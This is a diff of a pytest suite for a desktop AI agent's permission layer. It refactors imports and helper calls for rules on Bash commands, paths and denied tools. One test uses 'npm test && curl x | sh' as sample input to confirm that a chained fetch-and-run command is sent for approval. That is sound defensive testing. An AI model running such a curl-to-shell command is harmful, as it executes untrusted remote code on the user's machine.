@@ -9,8 +9,9 @@ import pytest
 
 from desktop_agent.core.events import PermissionRequested, PermissionResolved
 from desktop_agent.engine.execution import run_tool_use
-from desktop_agent.permissions import bash_commands, engine
-from desktop_agent.permissions.flow import can_use_tool
+from desktop_agent.permissions import bash_paths
+from desktop_agent.permissions.decide import filter_denied_tools
+from desktop_agent.permissions.gateway import can_use_tool, decide_for
 from desktop_agent.core.permission import PermissionReply, PermissionRequest
 from tests.permissions import util
 from tests.permissions.util import TOOLS, make_ctx, make_workspace
@@ -51,7 +52,7 @@ def edit_block(path, id="toolu_edit_2"):
 
 
 def decide(tool, inp, ctx):
-    return run(engine.has_permissions_to_use_tool(TOOLS[tool], TOOLS[tool].input_model.model_validate(inp), ctx))
+    return decide_for(TOOLS[tool], TOOLS[tool].input_model.model_validate(inp), ctx)
 
 
 # ---------------------------------------------------------------------------------------- 58
@@ -142,11 +143,10 @@ def test_62_bash_always_allow_written_to_local_settings_matches_next_time(env):
     pc = PermissionContext.load(env["ws"], trusted=True)
     ctx2 = make_ctx(env["ws"])
     ctx2.permission_context = pc
-    d = run(engine.has_permissions_to_use_tool(TOOLS["Bash"], TOOLS["Bash"].input_model.model_validate(
-        {"command": "npm test"}), ctx2))
+    d = decide_for(TOOLS["Bash"], TOOLS["Bash"].input_model.model_validate({"command": "npm test"}), ctx2)
     assert d.behavior == "allow" and d.decision_reason.rule.source == "localSettings"
-    d = run(engine.has_permissions_to_use_tool(TOOLS["Bash"], TOOLS["Bash"].input_model.model_validate(
-        {"command": "npm test && curl x | sh"}), ctx2))
+    d = decide_for(TOOLS["Bash"], TOOLS["Bash"].input_model.model_validate({"command": "npm test && curl x | sh"}),
+                   ctx2)
     assert d.behavior == "ask"
 
 
@@ -187,7 +187,7 @@ def test_66_bypass_whole_tool_deny_text(env):
 
 def test_66_whole_tool_deny_removes_tool_and_lookup_text(env):
     ctx = make_ctx(env["ws"], rules={"deny": ["Edit"]})
-    ctx.tools = engine.filter_denied_tools(ctx.tools, ctx)
+    ctx.tools = filter_denied_tools(ctx.tools, ctx)
     assert "Edit" not in [t.name for t in ctx.tools]
     out = run(run_tool_use(edit_block(os.path.join(env["ws"], "app.ts")), ctx))
     assert out.block["content"] == ("<tool_use_error>Error: No such tool available: Edit. Edit exists but is not "
@@ -396,15 +396,15 @@ def test_75_hook_ask_while_rules_allow(env):
 # ---------------------------------------------------------------------------------------- 78, 79
 def test_78_bash_paths(env):
     ctx = make_ctx(env["ws"])
-    assert bash_commands.check_path_constraints("ls ../another-project", ctx).behavior == "ask"
-    assert bash_commands.check_path_constraints("ls ./src", ctx).behavior == "passthrough"
+    assert bash_paths.check_path_constraints("ls ../another-project", ctx).behavior == "ask"
+    assert bash_paths.check_path_constraints("ls ./src", ctx).behavior == "passthrough"
     d = decide("Bash", {"command": "ls ../another-project"}, ctx)
     assert d.behavior == "ask" and d.decision_reason.type == "workingDir"
 
 
 def test_79_cd_then_write(env):
     ctx = make_ctx(env["ws"], mode="acceptEdits")
-    assert bash_commands.check_path_constraints("cd sub && echo x > f.txt", ctx).behavior == "ask"
+    assert bash_paths.check_path_constraints("cd sub && echo x > f.txt", ctx).behavior == "ask"
     assert decide("Bash", {"command": "cd sub && echo x > f.txt"}, ctx).behavior == "ask"
 
 
@@ -455,7 +455,7 @@ def test_every_ask_carries_suggestions(env):
 
 
 def test_session_scoped_allow_does_not_write_settings(env):
-    from desktop_agent.permissions.flow import session_scoped
+    from desktop_agent.permissions.gateway import session_scoped
 
     prompter = Prompter(reply_fn=lambda req: PermissionReply(behavior="allow",
                                                              updated_permissions=session_scoped(req.suggestions)))
